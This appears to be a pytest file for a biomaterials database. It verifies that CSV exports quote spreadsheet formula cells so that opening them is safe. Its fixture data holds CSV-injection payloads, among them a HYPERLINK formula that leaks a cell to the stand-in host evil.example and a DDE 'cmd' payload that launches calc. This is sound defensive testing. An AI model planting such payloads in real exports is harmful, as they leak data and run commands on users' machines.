"""Exports are safe to open in a spreadsheet: every text cell that a spreadsheet would run
as a formula (=, +, -, @, TAB, CR first) is quoted, numbers stay numbers, and the export
still ingests back to the same state. Through the CLI, the API's CSV export and the data
package, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from typer.testing import CliRunner

from biomatdb.cli import app
from biomatdb.spreadsheet import FORMULA_TRIGGERS, neutralise, restore
from biomatdb_ingest.pipeline import IngestOptions, ingest_file
from tests.test_cli import state

HOSTILE_CSV = (
    "Material,Class,Description,Notes,Property,Value,Unit,Source\n"
    '"=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")",polymer,"+cmd|\' /C calc\'!A0",'
    "@SUM(1+1),Young's modulus,2,GPa,=1+1 handbook\n"
    'Minus polymer,polymer,-2+3 something,"=cmd",zeta potential,-65,mV,-source\n'
    "Range polymer,polymer,plain,,glass transition temperature,(−65)–(−60),°C,Handbook\n"
)
HOSTILE_CELLS = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3 something",
    "=cmd",
    "=1+1 handbook",
    "-source",
)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-65", "-65"),
        ("+5", "+5"),
        ("-1.5e3", "-1.5e3"),
        ("-65–-60", "'-65–-60"),
        ("PLLA", "PLLA"),
        ("", ""),
        ("'quoted", "'quoted"),
        ("-", "'-"),
    ],
)
def test_neutralise_quotes_formulas_and_leaves_numbers(text, safe):
    assert neutralise(text) == safe
    assert restore(neutralise(text)) == text


def _cells(rows: list[dict[str, str]]) -> list[str]:
    return [value for row in rows for value in row.values()]


def _assert_safe(rows: list[dict[str, str]]) -> None:
    dangerous = [cell for cell in _cells(rows) if cell and cell[0] in FORMULA_TRIGGERS and neutralise(cell) != cell]
    assert dangerous == []
    quoted = {cell for cell in _cells(rows) if cell.startswith("'")}
    assert {restore(cell) for cell in quoted} >= set(HOSTILE_CELLS)


@pytest.mark.slow
def test_cli_export_quotes_formulas_and_reads_back(tmp_path, monkeypatch):
    monkeypatch.setenv("BIOMATDB_DATA_DIR", str(tmp_path / "one"))
    runner = CliRunner()

    def cli(*args):
        return runner.invoke(app, list(args), catch_exceptions=False)

    (tmp_path / "hostile.csv").write_text(HOSTILE_CSV, encoding="utf-8")
    assert cli("ingest", str(tmp_path / "hostile.csv")).exit_code == 0
    exported = cli("export", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(exported)))
    _assert_safe(rows)
    assert {row["value"] for row in rows} >= {"2", "-65"}  # numbers stay numbers
    names = [json.loads(cli("show", name, "--json").stdout) for name in ("Minus polymer", "Range polymer")]
    monkeypatch.setenv("BIOMATDB_DATA_DIR", str(tmp_path / "two"))
    (tmp_path / "export.csv").write_text(exported, encoding="utf-8")
    assert cli("ingest", str(tmp_path / "export.csv")).exit_code == 0
    assert cli("export", "--format", "csv").stdout == exported
    for before in names:
        assert state(json.loads(cli("show", before["name"], "--json").stdout)) == state(before)
    hyperlink = json.loads(cli("show", HOSTILE_CELLS[0], "--json").stdout)
    assert hyperlink["name"] == HOSTILE_CELLS[0] and hyperlink["description"] == HOSTILE_CELLS[1]


@pytest.mark.anyio
async def test_api_export_and_data_package_quote_formulas(engine, api, tmp_path):
    path = tmp_path / "hostile.csv"
    path.write_text(HOSTILE_CSV, encoding="utf-8")
    assert ingest_file(engine, path, IngestOptions(dataset="hostile")).ok
    exported = await api.get("/api/v1/export", params={"format": "csv", "dataset": "hostile"})
    assert exported.status_code == 200
    _assert_safe(list(csv.DictReader(io.StringIO(exported.text))))
    searched = await api.get("/api/v1/export", params={"format": "csv", "q": "polymer"})
    _assert_safe(list(csv.DictReader(io.StringIO(searched.text))))
    package = await api.get("/api/v1/datasets/hostile/datapackage")
    assert package.status_code == 200, package.text
    with zipfile.ZipFile(io.BytesIO(package.content)) as bundle:
        data = bundle.read("data.csv").decode("utf-8")
    _assert_safe(list(csv.DictReader(io.StringIO(data))))
